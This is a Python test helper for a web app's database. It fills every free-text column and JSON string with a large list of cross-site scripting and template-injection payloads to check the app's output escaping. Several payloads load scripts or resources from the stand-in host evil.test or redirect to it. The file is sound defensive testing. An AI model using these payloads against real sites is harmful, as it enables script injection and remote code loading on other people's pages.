"""Words that want to become a page's code, and a way to put them into every text column that there is."""

import itertools
from collections.abc import Iterator
from typing import Any

from sqlalchemy import JSON, Column, Enum, LargeBinary, String, Table, Text, select, update

from pilito.models import db

# What would run or load something. `x-hit` is a tag that no page of ours has, so that a parser finds it.
DEEDS = (
    "<x-hit>",
    "<script>alert(1)</script>",
    "<script src=//evil.test/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.test/p.gif>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.test/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.test><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.test/a.mp3 autoplay>",
    "<body onload=alert(1)>",
    "<style>@import '//evil.test/a.css';</style>",
    "<link rel=stylesheet href=//evil.test/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<x-hit onmouseover=alert(1) style=position:fixed;inset:0>",
    "<button popovertarget=x onclick=alert(1)>x</button>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
)
# What ends the place in which the words stand.
ENDS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    '" autofocus onfocus=alert(1) x="',
    "&quot;>",
)
OTHERS = (
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.test/x",
    "\\\\evil.test\\x",
    'https://evil.test/x" onmouseover="alert(1)',
    "{{ 7*7 }}{{ config }}",
    "{% import 'os' as os %}",
    "${7*7}",
    "<%= 7*7 %>",
    "\u202e<x-hit>\u202c",
    "\ufeff<x-hit>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<!--<x-hit>-->",
    "<![CDATA[<x-hit>]]>",
    "<x-hit\n/onerror\n=\nalert(1)>",
    "a@b<x-hit>",
)
WORDS = tuple(f"{end}{deed}" for end, deed in itertools.product(ENDS, DEEDS)) + OTHERS

# Columns that are no text to anybody: names of things of ours, which only our code writes.
OURS = {
    ("inbox", "channel"), ("webhook", "channel"), ("event", "channel"), ("comment", "channel"),
    ("inbox", "zone"), ("inbox", "hours"), ("inbox", "holidays"), ("inbox", "options"), ("inbox", "scopes"),
    ("share", "kind"), ("product", "currency"), ("source", "currency"), ("media_file", "key"), ("media_file", "mime_type"),
    ("operator", "language"), ("operator", "theme"), ("operator", "calendar"), ("operator", "digits"),
    ("operator_session", "secret_hash"), ("operator_session", "end_reason"), ("audit", "action"),
    ("message", "payload"), ("message", "origin"), ("attachment", "kind"), ("data_deletion", "channel"), ("search_entry", "words"),
}  # fmt: skip


def texts(table: Table) -> Iterator[Column[Any]]:
    """The columns of a table that hold words from outside, or typed by somebody."""
    for column in table.columns:
        is_text = isinstance(column.type, String | Text) and not isinstance(column.type, Enum | LargeBinary)
        if is_text and (table.name, column.name) not in OURS and not column.foreign_keys:
            yield column


def spread(turn: int) -> int:
    """Put other words into every text column of every row, and into every leaf of the JSON ones; return how many.

    `turn` moves the words on, so that after len(WORDS) turns every column has held each.
    """
    words = itertools.cycle(WORDS[turn % len(WORDS) :] + WORDS[: turn % len(WORDS)])
    count = 0
    for table in db.metadata.sorted_tables:
        key = next(iter(table.primary_key.columns), None)
        if key is None or table.name.startswith("alembic"):
            continue
        for row_id in db.session.scalars(select(key)).all():
            values = {column.name: _fit(next(words), column, row_id) for column in texts(table)}
            values |= _poisoned_json(table, key, row_id, words)
            if values:
                db.session.execute(update(table).where(key == row_id).values(values))
                count += len(values)
    return count


TOGETHER = 40  # so that eight rows hold them all: as many threads does the browser open


def spread_together() -> dict[tuple[str, str], set[str]]:
    """Fill every text column of every row with as many words as it holds, each going on where the row before ended;
    return which words each column has held, whole.

    For the browser, which takes seconds where the parser takes milliseconds. `spread` tries each alone.
    """
    held: dict[tuple[str, str], set[str]] = {}
    for table in db.metadata.sorted_tables:
        key = next(iter(table.primary_key.columns), None)
        if key is None or table.name.startswith("alembic"):
            continue
        lines = {column.name: Line() for column in texts(table)}
        rest = itertools.cycle(WORDS)
        for row_id in db.session.scalars(select(key).order_by(key)).all():
            values = {column.name: _filled(lines[column.name], column, row_id, held) for column in texts(table)}
            values |= _poisoned_json(table, key, row_id, rest)
            if values:
                db.session.execute(update(table).where(key == row_id).values(values))
    return held


class Line:
    """The words, one after the other for ever; what did not fit into one row comes first in the next."""

    def __init__(self) -> None:
        self._words = itertools.cycle(WORDS)
        self._kept: list[str] = []

    def take(self) -> str:
        return (self._kept.pop() if self._kept else next(self._words)).replace("\x00", "")

    def give_back(self, word: str) -> None:
        self._kept.append(word)


def _filled(words: Line, column: Column[Any], row_id: object, held: dict[tuple[str, str], set[str]]) -> str:
    length, mark = _room(column, row_id)
    taken: list[str] = []
    while len(taken) < TOGETHER:
        word = words.take()
        if taken and len(mark + " ".join([*taken, word])) > length:
            words.give_back(word)
            break
        taken.append(word)
        held.setdefault((column.table.name, column.name), set()).update({word} if len(mark + word) <= length else set())
    return (mark + " ".join(taken))[:length]


def _room(column: Column[Any], row_id: object) -> tuple[int, str]:
    """How long it may be, and with what it begins where no two may be the same."""
    length = getattr(column.type, "length", None) or 4000
    return length, f"{row_id}" if column.unique or _is_in_unique(column) else ""


def _fit(words: str, column: Column[Any], row_id: object) -> str:
    length, mark = _room(column, row_id)
    return f"{mark}{words}"[:length].replace("\x00", "")


def _is_in_unique(column: Column[Any]) -> bool:
    return any(
        column.name in {one.name for one in index.columns} for index in column.table.indexes if index.unique
    ) or any(
        column.name in {one.name for one in constraint.columns}
        for constraint in column.table.constraints
        if constraint.__visit_name__ == "unique_constraint"
    )


def _poisoned_json(table: Table, key: Column[Any], row_id: object, words: Iterator[str]) -> dict[str, Any]:
    columns = [column for column in table.columns if isinstance(column.type, JSON)]
    if not columns:
        return {}
    row = db.session.execute(select(*columns).where(key == row_id)).one()
    return {
        column.name: _poisoned(value, words)
        for column, value in zip(columns, row, strict=True)
        if value is not None and (table.name, column.name) not in OURS
    }


def _poisoned(value: Any, words: Iterator[str]) -> Any:
    if isinstance(value, dict):
        return {name: _poisoned(one, words) for name, one in value.items()}
    if isinstance(value, list):
        return [_poisoned(one, words) for one in value]
    return next(words) if isinstance(value, str) else value
